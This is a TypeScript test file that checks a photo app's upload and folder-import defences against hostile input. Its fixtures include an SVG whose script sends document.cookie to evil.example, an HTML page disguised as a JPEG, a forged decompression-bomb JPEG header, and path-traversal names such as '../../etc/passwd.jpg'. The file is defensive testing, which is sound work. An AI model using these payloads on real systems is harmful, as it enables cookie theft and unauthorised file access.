/**
 * Hostile files: the upload route takes bytes only as far as its limits allow
 * and never lets a client's file name near a storage key; the ingest (a real
 * worker process) judges files by their content and refuses bombs, truncated
 * files, disguised documents, animated GIFs and SVGs, each with a reason the
 * user sees. Server folders are importable only inside LOCAL_IMPORT_ROOTS.
 */
import { mkdir, mkdtemp, rm, symlink } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { TRPCClientError } from '@trpc/client';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { AppRouter } from '../../server/trpc/router.js';
import type { Child } from '../support/child-process.js';
import { makeStagePhoto, pngCopy, svgDrawing, truncatedCopy } from '../support/images.js';
import { watchScan } from '../support/scan-helpers.js';
import { signUp } from '../support/security-world.js';
import { startTestApp, type RunningApp } from '../support/test-app.js';
import { testEnv } from '../support/test-env.js';
import { startWorkerProcess, stop } from '../support/worker-process.js';

const MAX_FILES = 12;
let app: RunningApp;
let worker: Child;
let root: string;
beforeAll(async () => {
  root = await mkdtemp(join(tmpdir(), 'ch-hostile-'));
  const env = testEnv({
    DATA_DIR: join(root, 'data'),
    LOCAL_IMPORT_ROOTS: join(root, 'imports'),
    UPLOAD_MAX_FILE_MB: '1',
    UPLOAD_MAX_FILES: String(MAX_FILES),
    IMAGE_MAX_PIXELS: '1000000',
    RATE_LIMIT_API_PER_MIN: '0',
  });
  await mkdir(join(root, 'imports', 'library'), { recursive: true });
  app = await startTestApp(env);
  worker = await startWorkerProcess(env);
});
afterAll(async () => {
  if (worker) await stop(worker);
  await app?.close();
  await rm(root, { recursive: true, force: true });
});

interface FilePart {
  name: string;
  type: string;
  bytes: Buffer;
}

async function upload(cookie: string, files: FilePart[]) {
  const form = new FormData();
  for (const file of files) form.append('photos', new Blob([new Uint8Array(file.bytes)], { type: file.type }), file.name);
  const response = await fetch(`${app.url}/api/uploads`, {
    method: 'POST',
    body: form,
    headers: { origin: app.url, 'x-requested-with': 'concert-history', cookie },
  });
  return { status: response.status, body: await response.json() };
}

/** A small real JPEG whose frame header (SOF0) claims width × height pixels: a decompression bomb's header. */
async function jpegClaiming(width: number, height: number): Promise<Buffer> {
  const jpeg = Buffer.from(
    await sharp({ create: { width: 64, height: 48, channels: 3, background: '#334455' } })
      .jpeg()
      .toBuffer(),
  );
  const sof = jpeg.indexOf(Buffer.from([0xff, 0xc0]));
  if (sof < 0) throw new Error('no SOF0 marker in the fixture');
  jpeg.writeUInt16BE(height, sof + 5);
  jpeg.writeUInt16BE(width, sof + 7);
  return jpeg;
}

/** An animated GIF of 1200×1200 pixels and six frames (within the pixel limit per frame, so its animation is what refuses it). */
async function bigAnimatedGif(): Promise<Buffer> {
  const frames = await Promise.all(
    Array.from({ length: 6 }, (_, i) =>
      sharp({ create: { width: 900, height: 900, channels: 3, background: `#${(i * 40).toString(16).padStart(2, '0')}2040` } })
        .png()
        .toBuffer(),
    ),
  );
  return sharp(frames, { join: { animated: true } })
    .gif({ delay: frames.map(() => 100), loop: 0 })
    .toBuffer();
}

const scriptedSvg = () =>
  Buffer.from(svgDrawing().toString('utf8').replace('</svg>', '<script>fetch("https://evil.example/?c="+document.cookie)</script></svg>'));

describe('uploaded files', () => {
  it('are judged by their content: what is no photo is refused at the door, what only looks like one at ingest, each with its reason', async () => {
    const user = await signUp(app, 'hostile');
    const photo = await makeStagePhoto({ seed: 31, width: 800, height: 600 });
    const files: FilePart[] = [
      { name: 'real.jpg', type: 'image/jpeg', bytes: photo },
      { name: 'bomb.jpg', type: 'image/jpeg', bytes: await jpegClaiming(30_000, 30_000) },
      { name: 'truncated.jpg', type: 'image/jpeg', bytes: truncatedCopy(photo) },
      {
        name: 'page.jpg',
        type: 'image/jpeg',
        bytes: Buffer.from('<!doctype html><html><body><script>alert(document.cookie)</script></body></html>'),
      },
      { name: 'text.jpg', type: 'image/jpeg', bytes: Buffer.from('just some notes, not a photo at all') },
      { name: 'actually-png.jpg', type: 'image/jpeg', bytes: await pngCopy(await makeStagePhoto({ seed: 32, width: 320, height: 240 })) },
      { name: 'animated.gif.jpg', type: 'image/jpeg', bytes: await bigAnimatedGif() },
      { name: 'drawing.jpg', type: 'image/jpeg', bytes: scriptedSvg() },
    ];
    const { status, body } = await upload(user.jar.cookie!, files);
    expect(status).toBe(200);
    // By their first bytes, whatever their name and claimed type: never stored.
    expect(Object.fromEntries((body.refused as Array<{ name: string; reason: string }>).map((file) => [file.name, file.reason]))).toEqual({
      'page.jpg': expect.stringMatching(/^Not a photo: its content is not an image/),
      'text.jpg': expect.stringMatching(/^Not a photo: its content is not an image/),
      'animated.gif.jpg': expect.stringMatching(/^GIF images are not supported, only photos/),
      'drawing.jpg': expect.stringMatching(/^SVG drawings are not supported/),
    });
    expect(await storedKeys(user.user.id)).toHaveLength(4);

    const { scanId } = await user.client.scans.start.mutate({ sourceId: body.sourceId });
    expect((await watchScan(user.client, scanId)).at(-1)).toMatchObject({ status: 'completed', counts: { listed: 4, processed: 2, failed: 2 } });
    const reasons = Object.fromEntries((await user.client.scans.failures.query({ scanId })).map((failure) => [failure.fileName, failure.reason]));
    expect(reasons).toEqual({
      'bomb.jpg': expect.stringMatching(/too large: 30000×30000 pixels is over the limit/),
      'truncated.jpg': expect.stringMatching(/truncated|incomplete|damaged|corrupt/i),
    });
  });

  it('refuse SVG, over-size files and files over the count at the door, with reasons, storing none of them', async () => {
    const user = await signUp(app, 'door');
    const photo = await makeStagePhoto({ seed: 33, width: 64, height: 48 });
    const { status, body } = await upload(user.jar.cookie!, [
      { name: 'drawing.svg', type: 'image/svg+xml', bytes: scriptedSvg() },
      { name: 'huge.jpg', type: 'image/jpeg', bytes: Buffer.concat([photo, Buffer.alloc(1_100_000, 7)]) },
      ...Array.from({ length: MAX_FILES + 2 }, (_, i) => ({ name: `p${i}.jpg`, type: 'image/jpeg', bytes: photo })),
    ]);
    expect(status).toBe(200);
    expect(body.refused).toEqual(
      expect.arrayContaining([
        { name: 'drawing.svg', reason: 'Not a supported photo type (image/svg+xml)' },
        { name: 'huge.jpg', reason: 'Larger than the 1 MB limit' },
        { name: '(the rest)', reason: `At most ${MAX_FILES} photos per upload` },
      ]),
    );
    // The SVG and the over-size file take two of the places; the count stops the rest.
    expect(body.accepted).toHaveLength(MAX_FILES - 2);
    const keys = await storedKeys(user.user.id);
    expect(keys).toHaveLength(MAX_FILES - 2);
  });

  it('never put the client’s file name in a storage key, whatever it contains', async () => {
    const user = await signUp(app, 'names');
    const photo = await makeStagePhoto({ seed: 34, width: 320, height: 240 });
    const names = [
      '../../etc/passwd.jpg',
      '..\\..\\windows\\evil.jpg',
      '%2e%2e%2fescape.jpg',
      'a/../../b.jpg',
      'semi;colon=byte.jpg',
      'spaces and ünïcödé 🎸.jpg',
      'CON.jpg',
      '.hidden.jpg',
    ];
    const { body } = await upload(
      user.jar.cookie!,
      names.map((name, i) => ({ name, type: 'image/jpeg', bytes: i ? Buffer.concat([photo, Buffer.from([i])]) : photo })),
    );
    expect(body.accepted).toHaveLength(names.length);
    // Display names lose any path; they are only ever shown, never used to address anything.
    for (const { name } of body.accepted as Array<{ name: string }>) expect(name).not.toMatch(/[\\/]/);
    const { scanId } = await user.client.scans.start.mutate({ sourceId: body.sourceId });
    await watchScan(user.client, scanId);

    const keys = await storedKeys(user.user.id);
    expect(keys.length).toBeGreaterThan(names.length);
    for (const key of keys)
      expect(key).toMatch(new RegExp(`^users/${user.user.id}/(uploads/\\d+/[0-9a-f-]{36}|(thumbnails|previews)/[0-9a-f]{64}\\.webp)$`));
    const fragments = ['passwd', 'etc', 'evil', 'escape', 'windows', 'byte', 'ünïcödé', 'CON', 'hidden', '..', '%2e'];
    for (const fragment of fragments)
      expect(
        keys.filter((key) => key.includes(fragment)),
        fragment,
      ).toEqual([]);
  });
});

async function storedKeys(userId: number): Promise<string[]> {
  const keys: string[] = [];
  for await (const page of app.services.storage.list(`users/${userId}/`)) keys.push(...page.map((object) => object.key));
  return keys;
}

describe('server folders', () => {
  it('are refused outside LOCAL_IMPORT_ROOTS, through "..", or through a symlink out of the root, with a clear BAD_REQUEST', async () => {
    const user = await signUp(app, 'folders');
    const imports = join(root, 'imports');
    await symlink('/etc', join(imports, 'link-to-etc'));
    const attempts: Array<[string, RegExp]> = [
      ['/etc', /no folder you may import from at that path/],
      [root, /no folder you may import from at that path/],
      [`${imports}/../data`, /may not contain "\.\."/],
      [`${imports}/library/../../data`, /may not contain "\.\."/],
      [join(imports, 'link-to-etc'), /no folder you may import from at that path/],
      ['etc/passwd', /absolute path/],
    ];
    for (const [path, message] of attempts) {
      const error = await user.client.sources.addLocalFolder.mutate({ path }).catch((e: unknown) => e);
      expect(error, path).toBeInstanceOf(TRPCClientError);
      expect((error as TRPCClientError<AppRouter>).data?.code, path).toBe('BAD_REQUEST');
      expect((error as TRPCClientError<AppRouter>).message, path).toMatch(message);
    }
    expect(await user.client.sources.list.query()).toEqual([]);
    // The control: a folder inside the root is taken.
    expect((await user.client.sources.addLocalFolder.mutate({ path: join(imports, 'library') })).id).toBeGreaterThan(0);
  });
});
